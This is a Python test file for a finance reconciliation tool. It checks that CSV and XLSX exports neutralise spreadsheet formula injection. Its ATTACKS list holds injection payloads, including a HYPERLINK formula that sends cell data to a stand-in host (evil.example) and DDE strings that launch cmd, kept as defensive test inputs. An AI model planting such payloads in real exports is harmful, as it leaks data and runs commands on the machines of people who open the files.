"""Issue 16 item 1: text from outside (memos, applicant/procedure/fee names, file names) must
never become a live formula in a CSV or XLSX export. Every export writes through
``exports.write_csv`` / ``exports.write_xlsx`` (the CLI's ``recon reconcile export``) or
``workbench.csv_chunks`` / ``workbench.xlsx_chunks`` (the discrepancy queue, the quarterly
report and the outstanding dossiers on /finance): each is fed every dangerous prefix."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from openpyxl import load_workbook

from recon.review import exports, workbench
from recon.review.cells import FORMULA_STARTS, safe_cell

ATTACKS = ['=HYPERLINK("http://evil.example/?"&B2,"Xem")', "+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
assert {a[0] for a in ATTACKS} == set(FORMULA_STARTS)
HARMLESS = "Nộp lệ phí hộ tịch HS7Q2K"


def _item(text: str) -> dict[str, Any]:
    item: dict[str, Any] = dict.fromkeys(exports.FIELDS)
    item.update(id=1, identity=text, kind="unmatched_payment", status="open",
                explanation=text, explanation_en=text, resolution_note=text, reference=text,
                dossier_code=text, agency_code=text, provider_txn_id=text,
                expected_amount=0, actual_amount=-70_000, delta=-70_000)
    return item


def _check_csv(text: str, negative: int) -> None:
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    cells = [c for row in rows[1:] for c in row]
    for cell in cells:
        if cell.lstrip("-").isdigit():  # a number written by the export (an amount)
            continue
        assert not cell.startswith(FORMULA_STARTS), repr(cell)
    assert any(c.startswith("'") for c in cells)
    assert str(negative) in cells  # a negative amount stays a number


def _check_xlsx(data: bytes, negative: int) -> None:
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    texts = 0
    numbers = []
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                assert not cell.value.startswith(FORMULA_STARTS), cell.value
                texts += cell.value.startswith("'")
                assert cell.data_type == "s"
            elif isinstance(cell.value, int):
                numbers.append(cell.value)
    assert texts and negative in numbers


@pytest.mark.parametrize("attack", ATTACKS)
def test_cli_exports_neutralise_formulas(attack: str) -> None:
    out = io.StringIO()
    exports.write_csv([_item(attack), _item(HARMLESS)], out)
    _check_csv(out.getvalue(), -70_000)
    binary = io.BytesIO()
    exports.write_xlsx([_item(attack), _item(HARMLESS)], binary)
    _check_xlsx(binary.getvalue(), -70_000)


@pytest.mark.parametrize("attack", ATTACKS)
def test_web_exports_neutralise_formulas(attack: str) -> None:
    # the columns of the outstanding dossiers: code, agency, procedure, field, applicant, fee
    # name, amount, file name... every text one carries the attack
    header = ["Hồ sơ", "Cơ quan", "Thủ tục", "Người nộp", "Phí", "Tệp", "Số tiền"]
    rows = [[attack, attack, attack, attack, attack, attack, -5_000],
            [HARMLESS, "DNG", "Cấp phép", "Nguyễn Văn A", "Lệ phí", "sao_ke.xlsx", 180_000]]
    _check_csv(b"".join(workbench.csv_chunks(header, rows)).decode("utf-8"), -5_000)
    data = b"".join(workbench.xlsx_chunks("outstanding", header, rows, frozenset({6})))
    _check_xlsx(data, -5_000)


def test_only_text_is_touched() -> None:
    assert safe_cell(-70_000) == -70_000
    assert safe_cell("-70000") == "'-70000"  # text that looks like a formula is still text
    assert safe_cell(HARMLESS) == HARMLESS
    assert safe_cell(None) is None
